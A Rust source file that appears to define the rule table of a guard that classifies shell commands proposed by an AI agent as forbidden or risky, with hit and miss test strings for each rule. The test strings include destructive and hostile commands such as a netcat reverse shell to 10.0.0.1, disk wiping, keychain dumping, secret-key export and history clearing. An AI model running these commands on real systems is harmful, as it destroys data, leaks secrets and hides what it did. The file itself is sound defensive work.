//! The rules, as a table. Each has commands that it must hit and commands that it must not.

use crate::verdict::Level::{self, Forbidden, Risky};

/// When a rule holds for a call of one of its programs.
#[derive(Debug, Clone, Copy)]
pub(crate) enum When {
    Always,
    /// There is any operand.
    Given,
    /// Any of these options is there. `-f` is also found in `-xf`, `--force` also as `--forc`.
    Has(&'static [&'static str]),
    HasNone(&'static [&'static str]),
    /// Not if there is nothing but these: what follows them may be a command, with options of its own.
    Unless(&'static [&'static str]),
    /// The operands begin with these words.
    Sub(&'static str),
    Subs(&'static [&'static str]),
    SubHas(&'static str, &'static [&'static str]),
    SubHasNone(&'static str, &'static [&'static str]),
    /// Any operand is one of these words.
    Operand(&'static [&'static str]),
}
use When::{Always, Given, Has, HasNone, Operand, Sub, SubHas, SubHasNone, Subs, Unless};

#[derive(Debug, Clone, Copy)]
pub(crate) struct Rule {
    pub(crate) id: &'static str,
    pub(crate) level: Level,
    pub(crate) programs: &'static [&'static str],
    /// The names are only the beginning of a program's name: `mkfs.ext4`.
    pub(crate) prefix: bool,
    pub(crate) when: When,
    pub(crate) what: &'static str,
    pub(crate) why: &'static str,
    #[cfg_attr(not(test), expect(dead_code, reason = "the tests read it"))]
    pub(crate) hits: &'static [&'static str],
    #[cfg_attr(not(test), expect(dead_code, reason = "the tests read it"))]
    pub(crate) misses: &'static [&'static str],
}

macro_rules! rule {
    ($id:literal $level:ident $programs:expr, $when:expr; $what:literal: $why:literal; + $($hit:literal),+; - $($miss:literal),*) => {
        Rule { id: $id, level: $level, programs: &$programs, prefix: false, when: $when, what: $what, why: $why, hits: &[$($hit),+], misses: &[$($miss),*] }
    };
    (prefix $id:literal $level:ident $programs:expr, $when:expr; $what:literal: $why:literal; + $($hit:literal),+; - $($miss:literal),*) => {
        Rule { prefix: true, ..rule!($id $level $programs, $when; $what: $why; + $($hit),+; - $($miss),*) }
    };
}

#[rustfmt::skip]
pub(crate) const RULES: &[Rule] = &[
    // ---- the hard list ----
    rule!(prefix "make-filesystem" Forbidden ["mkfs", "mke2fs", "newfs"], HasNone(&["--help", "-V", "--version"]);
        "makes a new file system": "what was on the disk is lost";
        + "mkfs.ext4 /dev/sda1", "mkfs -t xfs /dev/vdb"; - "mkfs.ext4 --help", "man mkfs.ext4"),
    rule!("wipe-disk" Forbidden ["wipefs", "blkdiscard", "sgdisk", "gdisk", "cfdisk", "sfdisk", "fdisk", "parted", "hdparm"], Has(&["-a", "--all", "-f", "--zap-all", "-Z", "-o", "--delete", "--security-erase", "--wipe"]);
        "overwrites a disk's signatures or partition table": "the file systems on it can't be found any more";
        + "wipefs -a /dev/sda", "sgdisk --zap-all /dev/sda"; - "fdisk -l", "wipefs /dev/sda", "parted -l"),
    rule!("wipe-disk" Forbidden ["blkdiscard"], Always;
        "discards all blocks of a disk": "everything on it is lost";
        + "blkdiscard /dev/nvme0n1"; -),
    rule!("partition" Forbidden ["parted"], Operand(&["mklabel", "mktable", "rm", "mkpart", "resizepart"]);
        "changes a partition table": "the file systems on the disk can't be found any more";
        + "parted -s /dev/sda mklabel gpt"; - "parted /dev/sda print"),
    rule!("erase-volume" Forbidden ["cryptsetup", "nvme", "zpool"], Subs(&["luksFormat", "luksErase", "erase", "format", "destroy", "sanitize", "labelclear"]);
        "erases a volume": "what was on it is lost";
        + "cryptsetup luksFormat /dev/sdb", "zpool destroy tank"; - "zpool status", "nvme list"),
    rule!("erase-volume" Risky ["lvremove", "vgremove", "pvremove", "lvreduce", "mdadm", "swapoff", "umount", "losetup", "zfs", "btrfs"], HasNone(&["--help", "--version", "-l", "-D", "--detail", "list", "get", "show", "-a"]);
        "changes or removes volumes": "data on them can be lost";
        + "lvremove /dev/vg/data"; - "zfs list", "mdadm --detail /dev/md0"),
    rule!("stop-machine" Forbidden ["shutdown", "reboot", "halt", "poweroff", "telinit"], HasNone(&["--help", "-c", "--version", "-w", "--wtmp-only"]);
        "stops or restarts the machine": "everything that runs on it ends";
        + "shutdown -h now", "sudo reboot"; - "shutdown -c", "grep reboot log"),
    rule!("stop-machine" Forbidden ["init"], Operand(&["0", "6"]);
        "stops or restarts the machine": "everything that runs on it ends";
        + "init 0"; - "init"),
    rule!("stop-machine" Forbidden ["systemctl", "loginctl"], Subs(&["poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "soft-reboot", "suspend", "hibernate"]);
        "stops or restarts the machine": "everything that runs on it ends";
        + "systemctl poweroff", "systemctl --force reboot"; - "systemctl status nginx"),
    rule!("kill-everything" Forbidden ["killall5"], Always;
        "kills every process": "everything that runs on the machine ends"; + "killall5 -9"; -),

    // ---- becoming somebody else ----
    rule!("sudo-input" Risky ["sudo"], Has(&["-S", "--stdin", "-A", "--askpass"]);
        "gives sudo a password of its own": "passwords are for the user to give";
        + "echo x | sudo -S ls"; - "sudo -n true"),
    rule!("privilege" Risky ["sudo", "doas", "su", "pkexec", "runuser", "gosu", "sudoedit"], Unless(&["--version", "-V", "--help", "-K", "-k"]);
        "runs as another user": "that user may do more than the task needs";
        + "sudo apt-get update", "su -c id", "doas ls", "sudo -k id", "sudo ./x --version", "su"; - "sudo --version", "sudo -k", "echo sudo"),
    rule!("other-root" Risky ["nsenter", "chroot", "unshare", "setcap", "capsh", "kexec"], Unless(&["--version", "-V", "--help", "-h", "--print"]);
        "runs in another part of the system": "it affects the whole machine";
        + "nsenter -t 1 -m -n sh", "chroot /mnt ls -l"; - "nsenter --version", "capsh --print"),
    rule!("namespaces" Risky ["insmod", "modprobe", "rmmod", "sysctl", "iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "setenforce", "swapon"], HasNone(&["-l", "--list", "-L", "-n", "--version", "--help", "-a", "list", "status", "-S", "--list-all"]);
        "changes the kernel, mounts or the firewall": "it affects the whole machine";
        + "iptables -F", "modprobe x"; - "iptables -L", "sysctl -a", "ufw status"),

    rule!("namespaces" Risky ["mount"], Given;
        "mounts a file system": "it affects the whole machine"; + "mount /dev/sdb1 /mnt"; - "mount", "mount -l"),

    // ---- services and processes ----
    rule!("services" Risky ["pm2", "supervisorctl"], Subs(&["stop", "restart", "delete", "kill", "shutdown", "remove"]);
        "stops or restarts a service": "somebody may depend on it"; + "pm2 restart all"; - "pm2 list"),
    rule!("services" Risky ["brew"], Subs(&["services stop", "services restart", "services kill"]);
        "stops or restarts a service": "somebody may depend on it"; + "brew services stop redis"; - "brew services list"),
    rule!("services" Risky ["systemctl", "service", "rc-service", "launchctl", "initctl"], Operand(&["stop", "restart", "disable", "mask", "kill", "isolate", "unload", "bootout", "remove", "set-default", "daemon-reexec"]);
        "stops or disables a service": "somebody may depend on it";
        + "systemctl stop nginx", "service postgresql restart"; - "systemctl status nginx", "systemctl --user list-units"),
    rule!("kill-by-name" Risky ["pkill", "killall", "skill"], Has(&["-9", "-KILL", "-SIGKILL", "-s", "--signal", "-r", "--regexp", "-u", "-U", "--uid"]);
        "kills processes by name, at once": "others of that name die too, without saving";
        + "pkill -9 node", "killall -9 python3", "killall -r ."; - "pkill -f 'vite --port 3000'", "pgrep -9 x"),
    rule!("kill-by-name" Risky ["pkill", "killall"], Operand(&["farshell", "hermes", "sshd", "systemd", "init", "dockerd", "containerd", ".", "*"]);
        "kills a program that this session or the machine needs": "the session may end with it";
        + "pkill farshell", "killall sshd"; - "pkill vite"),
    rule!("accounts" Risky ["useradd", "userdel", "usermod", "groupadd", "groupdel", "passwd", "chpasswd", "adduser", "deluser", "visudo", "chsh", "gpasswd"], HasNone(&["--help", "-S", "--status"]);
        "changes who may log in": "it outlives the task";
        + "useradd eve", "passwd root"; - "passwd -S", "getent passwd"),
    rule!("schedule" Risky ["crontab"], HasNone(&["-l"]);
        "changes what runs on a schedule": "it runs later, unseen";
        + "crontab -r", "crontab new.txt"; - "crontab -l"),
    rule!("schedule" Risky ["at", "batch"], HasNone(&["-l", "-V"]);
        "runs something later": "it runs unseen"; + "echo ls | at now"; - "at -l"),

    // ---- git ----
    rule!("git-force-push" Risky ["git"], SubHas("push", &["-f", "--force", "--force-with-lease", "--mirror", "--delete", "-d", "--prune"]);
        "overwrites or deletes what is on the remote": "commits that others have pushed are lost";
        + "git push --force", "git push -f origin main", "git -C repo push --forc", "git push origin --delete v1"; - "git push", "git push -u origin main", "git fetch --force"),
    rule!("git-reset" Risky ["git"], SubHas("reset", &["--hard", "--merge", "--keep"]);
        "throws away changes": "what is not committed is lost";
        + "git reset --hard HEAD~1", "git reset --har"; - "git reset HEAD file", "git reset --soft HEAD~1"),
    rule!("git-clean" Risky ["git"], SubHasNone("clean", &["-n", "--dry-run"]);
        "deletes files that git does not know": "they are not in any commit";
        + "git clean -fdx", "git clean -f"; - "git clean -n"),
    rule!("git-branch" Risky ["git"], SubHas("branch", &["-D", "--delete", "-M"]);
        "deletes or moves a branch": "its commits are hard to find afterwards";
        + "git branch -D old"; - "git branch -a", "git branch new", "git branch -vv"),
    rule!("git-discard" Risky ["git"], SubHas("checkout", &["-f", "--force", "--", "."]);
        "throws away changes": "what is not committed is lost";
        + "git checkout -- .", "git checkout -f main"; - "git checkout main", "git checkout -b new"),
    rule!("git-discard" Risky ["git"], SubHasNone("restore", &["--staged", "-S"]);
        "throws away changes": "what is not committed is lost";
        + "git restore ."; - "git restore --staged a.txt"),
    rule!("git-discard" Risky ["git"], SubHas("switch", &["-f", "--force", "--discard-changes"]);
        "throws away changes": "what is not committed is lost";
        + "git switch --discard-changes main"; - "git switch main"),
    rule!("git-stash" Risky ["git"], Subs(&["stash drop", "stash clear"]);
        "deletes what was put aside": "it is in no branch";
        + "git stash drop", "git stash clear"; - "git stash", "git stash pop"),
    rule!("git-history" Risky ["git"], Subs(&["filter-branch", "filter-repo", "reflog expire", "reflog delete", "update-ref", "gc --prune=now", "worktree remove", "submodule deinit", "remote remove", "tag -d"]);
        "rewrites or deletes history": "commits can't be found afterwards";
        + "git filter-branch --all", "git reflog expire --expire=now --all"; - "git reflog", "git gc", "git tag -l"),
    rule!("github-destroy" Risky ["gh", "glab"], Subs(&["repo delete", "release delete", "secret delete", "repo archive", "secret set", "api -X", "auth token", "repo edit", "ssh-key add", "run delete"]);
        "deletes or changes what others see": "it can't be undone";
        + "gh repo delete me/x --yes"; - "gh pr list", "gh repo view"),

    // ---- containers and clouds ----
    rule!("container-stop" Risky ["docker", "podman", "nerdctl"], Subs(&["stop", "restart", "kill", "rm", "rmi", "pause", "container stop", "container rm", "container kill", "container prune", "image rm", "image prune", "volume rm", "volume prune", "network rm", "network prune", "system prune", "builder prune", "swarm leave", "stack rm", "compose down", "compose stop", "compose kill", "compose restart", "compose rm"]);
        "stops or removes containers or their data": "somebody may depend on them";
        + "docker rm -f db", "docker system prune -af", "docker compose down -v"; - "docker ps", "docker compose up -d", "docker build ."),
    rule!("container-stop" Risky ["docker-compose"], Subs(&["down", "stop", "kill", "restart", "rm"]);
        "stops or removes containers or their data": "somebody may depend on them";
        + "docker-compose down"; - "docker-compose ps"),
    rule!("container-escape" Risky ["docker", "podman", "nerdctl"], Has(&["--privileged", "--cap-add", "--device", "--security-opt", "--pid", "--ipc", "--userns", "--cgroupns"]);
        "starts a container that reaches the host": "it is no boundary any more";
        + "docker run --privileged alpine sh", "docker run --pid=host alpine ps"; - "docker run --rm alpine ls"),
    rule!("cluster-destroy" Risky ["kubectl", "oc", "k3s"], Subs(&["delete", "drain", "cordon", "scale", "replace", "rollout undo", "taint", "patch", "edit"]);
        "deletes or changes what runs in a cluster": "it takes effect at once";
        + "kubectl delete ns prod", "kubectl drain n1"; - "kubectl get pods", "kubectl logs x"),
    rule!("cluster-destroy" Risky ["helm"], Subs(&["uninstall", "delete", "rollback"]);
        "removes what runs in a cluster": "it takes effect at once"; + "helm uninstall web"; - "helm list"),
    rule!("cloud-destroy" Risky ["terraform", "tofu", "pulumi", "cdk", "terragrunt"], Subs(&["destroy", "apply", "up", "state rm", "import", "force-unlock", "taint", "stack rm", "deploy"]);
        "changes or deletes what runs in a cloud": "it costs money, or data";
        + "terraform destroy -auto-approve", "terraform apply"; - "terraform plan", "terraform init"),
    rule!("cloud-destroy" Risky ["aws"], Operand(&["rb", "rm", "delete-bucket", "terminate-instances", "delete-stack", "delete-db-instance", "delete-table", "delete-object", "delete-objects", "delete-user", "delete-role", "delete-function", "delete-cluster", "delete-secret", "deregister-image", "delete-snapshot", "delete-volume", "create-access-key"]);
        "deletes what is in a cloud": "it can't be undone";
        + "aws s3 rb s3://b --force", "aws ec2 terminate-instances --instance-ids i-1"; - "aws s3 ls", "aws sts get-caller-identity"),
    rule!("cloud-destroy" Risky ["gcloud", "az", "doctl", "flyctl", "fly", "heroku", "vercel", "wrangler", "gsutil", "rclone", "firebase", "supabase"], Operand(&["delete", "destroy", "rm", "remove", "purge", "apps:destroy", "pg:reset", "rb", "deletefile", "sync", "db:reset"]);
        "deletes what is in a cloud": "it can't be undone";
        + "gcloud projects delete p", "heroku apps:destroy x"; - "gcloud projects list", "gsutil ls"),

    rule!("cloud-destroy" Risky ["aws"], Has(&["--delete"]);
        "deletes what is in a cloud": "it can't be undone"; + "aws s3 sync dist s3://b --delete"; - "aws s3 sync dist s3://b"),

    // ---- publishing ----
    rule!("publish" Risky ["npm", "pnpm", "yarn", "cargo", "gem", "poetry", "uv", "flit", "hatch", "bun", "lerna", "vsce", "pod", "mvn", "gradle"], Subs(&["publish", "push", "unpublish", "yank", "deprecate", "owner", "npm publish", "trunk push", "deploy"]);
        "publishes a package": "it can't be taken back";
        + "npm publish", "cargo publish", "npm unpublish x --force"; - "npm install", "cargo build", "cargo publish-notes"),
    rule!("publish" Risky ["twine"], Sub("upload"); "publishes a package": "it can't be taken back"; + "twine upload dist/*"; - "twine check dist/*"),
    rule!("publish" Risky ["docker", "podman", "helm"], Sub("push"); "publishes an image": "others will use it"; + "docker push me/x:1"; - "docker pull alpine"),
    rule!("publish" Risky ["gh"], Subs(&["release create", "pr merge", "release upload", "workflow run", "gist create"]);
        "publishes something": "others see it at once"; + "gh release create v1", "gh pr merge 5"; - "gh release list"),

    // ---- packages and the system ----
    rule!("remove-packages" Risky ["apt", "apt-get", "aptitude", "dnf", "yum", "zypper", "pacman", "apk", "brew", "snap", "flatpak", "dpkg", "rpm", "emerge", "port"], Operand(&["remove", "purge", "autoremove", "erase", "del", "uninstall", "rm", "full-upgrade", "dist-upgrade", "cask"]);
        "removes packages from the system": "other programs may need them";
        + "apt-get purge -y python3", "brew uninstall git"; - "apt-get install -y jq", "apt list", "brew install jq"),
    rule!("remove-packages" Risky ["dpkg", "rpm", "pacman"], Has(&["-r", "-P", "--purge", "--remove", "-e", "--erase", "-R", "-Rns", "-Rs"]);
        "removes packages from the system": "other programs may need them";
        + "dpkg --purge x", "pacman -Rns x"; - "dpkg -l", "rpm -qa"),
    rule!("database-drop" Risky ["dropdb", "dropuser", "mysqladmin", "redis-cli", "mongosh", "mongo"], Operand(&["drop", "flushall", "flushdb", "FLUSHALL", "FLUSHDB", "shutdown"]);
        "deletes a database": "it can't be undone"; + "redis-cli FLUSHALL", "mysqladmin drop x"; - "redis-cli get a"),
    rule!("database-drop" Risky ["dropdb", "dropuser"], Always;
        "deletes a database": "it can't be undone"; + "dropdb prod"; - "createdb x"),
    rule!("history" Risky ["history"], Has(&["-c", "-d"]); "deletes the shell's history": "it hides what was done"; + "history -c"; - "history"),
    rule!("keys" Risky ["gpg", "gpg2"], Has(&["--delete-secret-keys", "--export-secret-keys", "--delete-keys", "--export-secret-subkeys", "--delete-secret-and-public-key"]);
        "exports or deletes keys": "whoever has them is the user"; + "gpg --export-secret-keys"; - "gpg --verify a.sig"),
    rule!("keys" Risky ["security", "secret-tool", "pass", "op", "vault", "ssh-copy-id"], Subs(&["dump-keychain", "find-generic-password", "find-internet-password", "lookup", "show", "read", "kv get", "item get", "delete-keychain", "rm"]);
        "reads or deletes stored secrets": "they would be in the conversation from then on"; + "security dump-keychain", "pass show mail"; - "vault status"),
    rule!("farshell-itself" Risky ["hermes"], Operand(&["stop", "restart", "shutdown", "update", "approve", "destroy", "gc", "reset", "uninstall"]);
        "steers the program that runs the agent": "the agent would decide about itself";
        + "hermes gateway stop"; - "hermes status"),
    rule!("network-listener" Risky ["nc", "ncat", "netcat", "socat"], Has(&["-e", "-c", "--exec", "--sh-exec"]);
        "connects a program to the network": "it can hand the shell to somebody else"; + "nc -e /bin/sh 10.0.0.1 4444"; - "nc -z localhost 80"),
];
